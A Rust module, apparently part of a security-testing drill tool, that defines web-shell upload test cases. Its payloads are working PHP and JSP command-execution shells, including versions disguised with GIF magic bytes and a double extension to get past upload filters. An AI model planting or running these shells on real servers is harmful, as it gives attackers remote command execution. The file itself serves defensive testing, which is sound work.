//! Web shells: a script uploaded as a file, then called.

use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{Field, Request};

pub(super) fn all() -> Vec<Attack> {
    let upload = |encoding, name, file_name: &'static str, content_type, content: &str| {
        let file = Field::File { name: "file", file_name, content_type, content: content.as_bytes() };
        let call = Request::get("/uploads/").raw_path(file_name).query("c", "id");
        Attack::new(
            AttackClass::Upload,
            Place::Multipart,
            encoding,
            name,
            Request::post("/upload").multipart(&[file]),
            Proof::Leaks("uid="),
        )
        .then(call)
    };
    vec![
        upload(Encoding::Plain, "script", "avatar.php", "application/x-php", "<?php system($_GET['c']); ?>"),
        upload(
            Encoding::Obfuscated,
            "script with an image's type and magic",
            "photo.php",
            "image/gif",
            "GIF89a;\n<?php passthru($_REQUEST[\"c\"]); ?>",
        ),
        upload(Encoding::Obfuscated, "double extension", "xray.php.png", "image/png", "<?php system($_GET['c']); ?>"),
        upload(
            Encoding::Plain,
            "server page",
            "help.jsp",
            "text/plain",
            "<%@ page import=\"java.util.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        ),
    ]
}
